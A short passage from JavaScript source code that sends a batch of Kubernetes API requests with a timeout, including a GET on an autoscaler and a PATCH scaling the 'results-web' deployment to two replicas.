    ['GET', HPA, false],
    [cut.method, cut.path, true, cut.headers, cut.body],
    ['PATCH', `${DEPLOY(RESULTS_NS, 'results-web')}/scale`, true, MERGE, JSON.stringify({ spec: { replicas: 2 } })],
  ]), 20 * S);
  return out;
}
